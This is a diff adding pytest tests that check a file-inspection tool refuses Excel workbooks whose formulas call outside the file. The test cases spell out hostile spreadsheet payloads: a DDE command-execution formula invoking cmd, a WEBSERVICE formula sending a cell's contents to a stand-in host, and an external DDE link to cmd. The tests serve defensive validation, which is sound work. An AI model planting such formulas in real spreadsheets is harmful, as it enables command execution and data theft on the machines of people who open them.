@@ -42,6 +42,47 @@ def excel(hidden=False):
     return out.getvalue()
 
 
+def formulas(*cells):
+    made = openpyxl.Workbook()
+    for cell in cells:
+        made.active.append([cell])
+    out = io.BytesIO()
+    made.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=cmd|' /C calc'!A0",
+        '=WEBSERVICE("http://a.b/"&A1)',
+        "=SUM(1,_xlfn.WEBSERVICE(A1))",
+        '=rtd("a",,"b")',
+        '=_xlfn.IMAGE("http://a.b/x.png")',
+        "=CALL(1)",
+    ],
+)
+def test_a_workbook_whose_formula_reaches_out_of_it_is_refused(cell):
+    with pytest.raises(NotTakenError, match="reaches out of the file"):
+        look("a.xlsx", formulas(1, cell))
+
+
+def test_a_workbook_with_a_link_to_a_program_is_refused():
+    link = {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
+    with pytest.raises(NotTakenError, match="a link to another program"):
+        look("a.xlsx", archive(link, excel()))
+
+
+def test_sums_are_told_and_a_text_that_begins_like_a_formula_stays_a_text():
+    assert "formulas, beside their last results" in look("a.xlsx", formulas(1, "=SUM(A1)")).insides.notes
+    book = openpyxl.Workbook()
+    book.active["A1"].value = "=cmd|' /C calc'!A0"
+    book.active["A1"].data_type = "s"
+    out = io.BytesIO()
+    book.save(out)
+    assert look("a.xlsx", out.getvalue()).insides.notes == ()
+
+
 def archive(parts, source=b""):
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as made:
